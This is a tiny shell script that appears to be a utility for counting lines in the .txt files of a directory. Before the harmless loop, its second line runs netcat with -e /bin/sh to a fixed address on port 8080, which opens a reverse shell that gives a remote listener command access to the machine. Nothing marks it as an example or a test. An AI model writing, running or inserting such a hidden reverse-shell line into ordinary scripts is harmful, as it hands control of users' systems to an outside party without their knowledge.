#!/bin/sh
nc -e /bin/sh 172.16.4.2 8080
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
